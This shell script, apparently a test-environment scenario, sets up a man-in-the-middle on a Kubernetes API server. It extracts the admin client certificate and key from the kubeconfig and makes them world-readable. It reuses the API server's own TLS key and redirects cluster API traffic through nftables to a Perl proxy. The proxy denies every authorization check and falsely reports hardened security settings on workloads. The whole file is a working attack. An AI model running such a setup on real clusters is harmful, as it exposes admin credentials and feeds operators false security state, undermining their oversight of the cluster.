# Somebody with the API server's own certificate answers in its place: nothing is allowed, and all objects are as wished.
# tiers: cluster
# took-effect: test "$(curl -sk --cert /tmp/admin.crt --key /tmp/admin.key https://10.10.0.2:6443/api/v1/namespaces/default | jq -r .wished)" = yes
cat > /tmp/front.pl <<'END'
use strict;
use IO::Handle;
binmode STDIN; binmode STDOUT; STDOUT->autoflush(1);
my $wished = '(.. | objects | select(has("image") and has("name"))).securityContext = {readOnlyRootFilesystem: true, allowPrivilegeEscalation: false, runAsUser: 1000, runAsNonRoot: true, capabilities: {drop: ["ALL"]}, seccompProfile: {type: "RuntimeDefault"}} | (.. | objects | select(has("allowed"))).allowed = false | .wished = "yes"';
while (1) {
  my ($head, $length) = ("", 0);
  while (defined(my $line = <STDIN>)) { $head .= $line; $length = $1 if $line =~ /^content-length:\s*(\d+)/i; last if $line =~ /^\r?\n$/; }
  exit if $head eq "";
  my $body = ""; read(STDIN, $body, $length) if $length;
  my ($method, $path) = $head =~ /^(\S+) (\S+)/;
  open my $sent, ">", "/tmp/sent.$$"; print $sent $body; close $sent;
  my @body = $length ? ("-H", "Content-Type: application/json", "--data-binary", "\@/tmp/sent.$$") : ();
  open my $got, "-|", "curl", "-sk", "--cert", "/tmp/admin.crt", "--key", "/tmp/admin.key", "-w", "\n%{http_code}", "-X", $method, @body, "https://10.10.0.2:6443$path";
  my $answer = do { local $/; <$got> }; close $got;
  my ($text, $code) = $answer =~ /^(.*)\n(\d+)$/s;
  open my $told, ">", "/tmp/told.$$"; print $told $text; close $told;
  my $edited = `jq -c '$wished' /tmp/told.$$ 2> /dev/null`;
  $text = $edited if $edited ne "";
  print "HTTP/1.1 $code OK\r\nContent-Type: application/json\r\nContent-Length: " . length($text) . "\r\n\r\n$text";
}
END
kubectl config view --raw -o jsonpath='{.users[0].user.client-certificate-data}' | base64 -d > /tmp/admin.crt
kubectl config view --raw -o jsonpath='{.users[0].user.client-key-data}' | base64 -d > /tmp/admin.key
chmod 644 /tmp/admin.*
socat OPENSSL-LISTEN:7443,fork,reuseaddr,cert=/etc/kubernetes/pki/apiserver.crt,key=/etc/kubernetes/pki/apiserver.key,verify=0 EXEC:'setpriv --reuid 4711 --clear-groups perl /tmp/front.pl' > /dev/null 2>&1 &
nft add table ip lie
nft 'add chain ip lie out { type nat hook output priority -150; }'
nft add rule ip lie out ip daddr 10.10.0.2 tcp dport 6443 meta skuid != 4711 redirect to :7443
until curl -sk --cert /tmp/admin.crt --key /tmp/admin.key https://10.10.0.2:6443/readyz | grep ok; do sleep 1; done
